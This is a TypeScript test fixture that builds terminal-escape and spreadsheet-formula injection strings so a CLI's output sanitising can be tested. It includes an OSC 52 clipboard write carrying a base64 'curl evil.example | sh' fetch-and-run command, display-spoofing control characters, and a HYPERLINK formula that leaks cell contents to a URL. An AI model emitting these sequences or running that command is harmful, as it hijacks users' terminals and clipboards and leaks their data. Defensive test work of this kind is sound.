/**
 * The `hostile` marker flag: answers whose text attacks the terminal and the spreadsheet they end up in, so tests
 * can show that the CLI prints them inert. The text carries a clear-screen CSI, an OSC 8 link, an OSC 52
 * clipboard write, a CR and a backspace (which overwrite what is shown), a one-byte C1 CSI and a right-to-left
 * override; a name and a summary message also start with a spreadsheet formula.
 */
export const TERMINAL_ATTACK =
  '\u001b[2J\u001b]8;;https://evil.example/\u0007click\u001b]8;;\u0007\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007\rOK\b\u009b31m\u202egnp.exe';
export const FORMULA = '=HYPERLINK("http://x"&A1,"x")';

const hostile = (flags: ReadonlySet<string>): boolean => flags.has('hostile');

/** `value`, followed by the attack when the flag is set; `formula`: preceded by a formula too. */
export function hostileText(flags: ReadonlySet<string>, value: string, { formula = false }: { formula?: boolean } = {}): string {
  return hostile(flags) ? `${formula ? FORMULA : ''}${value}${TERMINAL_ATTACK}` : value;
}

/** A summary detail (code and message) made of the attack, when the flag is set. */
export function hostileDetails(flags: ReadonlySet<string>): { code: string; message: string }[] {
  return hostile(flags) ? [{ code: `999${TERMINAL_ATTACK}`, message: `${FORMULA}${TERMINAL_ATTACK}` }] : [];
}
